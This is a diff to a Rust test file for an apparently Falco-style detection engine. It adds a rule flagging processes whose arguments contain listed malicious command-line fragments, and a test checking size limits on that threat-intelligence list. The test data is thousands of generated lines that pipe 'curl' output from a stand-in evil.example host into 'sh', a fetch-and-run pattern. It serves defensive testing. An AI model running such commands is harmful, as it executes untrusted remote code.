@@ -172,6 +172,13 @@ fn what_is_no_bundle_is_an_error_that_names_the_file() {
 }
 
 const RULES: &str = "
+- list: malicious_command_lines
+  items: [a part of our own]
+- rule: Part
+  desc: D.
+  condition: evt.type = execve and proc.args icontains anyof (malicious_command_lines)
+  output: O
+  priority: NOTICE
 - list: malicious_domains
   items: [own.example]
 - list: malicious_addresses
@@ -271,5 +278,37 @@ fn a_hundred_thousand_values_of_each_kind_are_compiled_and_looked_up() {
         "measured: 100,000 domains and 100,000 addresses, each in two rules: compiled in {took:?}, {} MiB more; an act is looked up in {:?}",
         grown / 1024,
         begin.elapsed() / 4000
+    );
+}
+
+#[test]
+fn parts_of_command_lines_are_bounded_by_their_number_and_their_bytes() {
+    let mut parts = String::new();
+    for number in 0..12_000_u32 {
+        let _ = writeln!(
+            parts,
+            "curl -s http://{}.evil.example/{number:08x} | sh -s {number}",
+            number % 7919
+        );
+    }
+    let read = of(&[("malicious_command_lines.txt", &parts)]);
+    assert_eq!(read.values(), 10_000);
+    assert!(
+        read.warnings()[0].starts_with("2000 values of threat intelligence are left out"),
+        "{:?}",
+        read.warnings()
+    );
+    let long = (0..3_000)
+        .fold(String::new(), |all, number| all + &format!("{number}{}\n", "x".repeat(1000)));
+    assert_eq!(of(&[("malicious_command_lines.txt", &long)]).values(), (1 << 20) / 1004);
+
+    let (before, begin) = (resident(), Instant::now());
+    let engine = Engine::compile(rules(&[("malicious_command_lines.txt", &parts)]));
+    let (took, grown) = (begin.elapsed(), resident().saturating_sub(before));
+    assert_eq!(matches(&engine, &["x", "A Part Of Our Own"], None), ["Part"]);
+    assert!(matches(&engine, &["x", "a part of somebody else's"], None).is_empty());
+    println!(
+        "measured: 10,000 parts of command lines compiled in {took:?}, {} MiB more",
+        grown / 1024
     );
 }
